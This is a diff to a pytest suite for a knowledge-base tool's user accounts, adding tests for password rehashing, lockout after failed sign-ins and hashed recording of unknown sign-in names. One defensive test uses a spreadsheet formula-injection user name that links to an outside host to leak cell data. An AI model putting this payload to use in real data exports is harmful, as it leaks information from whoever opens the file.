@@ -12,6 +12,7 @@ import pytest
 from sqlalchemy import text
 
 from kbqa import AccessDeniedError, ConfigError, KnowledgeBase, Settings
+from kbqa.users import MAX_FAILED_SIGN_INS, unknown_actor
 
 KBQA = str(Path(sys.executable).parent / "kbqa")
 
@@ -71,7 +72,8 @@ def test_passwords_are_stored_as_argon2_hashes_and_checked(kb):
     kb.users.set_password("erin", None)
     assert kb.users.authenticate("erin", "s3cret-passphrase") is None  # SSO only now
     denials = [(r.actor, r.payload["action"]) for r in kb.audit.records() if r.kind == "denial"]
-    assert denials == [("erin", "sign_in"), ("ghost", "sign_in"), ("erin", "sign_in")]
+    assert denials == [("erin", "sign_in"), (unknown_actor("ghost"), "sign_in"),
+                       ("erin", "sign_in")]
     assert "s3cret-passphrase" not in "".join(r.payload_json for r in kb.audit.records())
 
 
@@ -136,3 +138,29 @@ def test_cli_ask_needs_a_registered_user(tmp_path):
                             capture_output=True, text=True, env={**env, "KBQA_USER": "nobody"},
                             timeout=300, check=False)
     assert result.returncode == 1 and "'nobody' is not registered" in result.stderr
+
+
+def test_sign_in_rehashes_old_parameters_and_locks_out_guessing(kb):
+    from argon2 import PasswordHasher
+
+    kb.users.add("fay", password="first-passphrase")
+    weak = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1).hash("first-passphrase")
+    with kb.store.engine.begin() as conn:
+        conn.execute(text("UPDATE users SET password_hash=:h WHERE name='fay'"), {"h": weak})
+    assert kb.users.authenticate("fay", "first-passphrase").name == "fay"
+    with kb.store.engine.connect() as conn:
+        upgraded = conn.execute(text("SELECT password_hash FROM users WHERE name='fay'")).scalar()
+    assert upgraded != weak and "m=65536" in upgraded  # the library's current parameters
+
+    for _ in range(MAX_FAILED_SIGN_INS):
+        assert kb.users.authenticate("fay", "guess-guess-guess") is None
+    assert kb.users.authenticate("fay", "first-passphrase") is None  # locked, even when right
+    reasons = [r.payload["reason"] for r in kb.audit.records() if r.kind == "denial"]
+    assert reasons[-1].startswith("too many failed sign-ins")
+
+
+def test_unregistered_sign_in_names_are_recorded_as_hashes(kb):
+    hostile = '=HYPERLINK("http://x/?"&E2)'
+    assert kb.users.authenticate(hostile, "whatever-password") is None
+    denial = [r for r in kb.audit.records() if r.kind == "denial"][-1]
+    assert denial.actor == unknown_actor(hostile) and "HYPERLINK" not in denial.payload_json
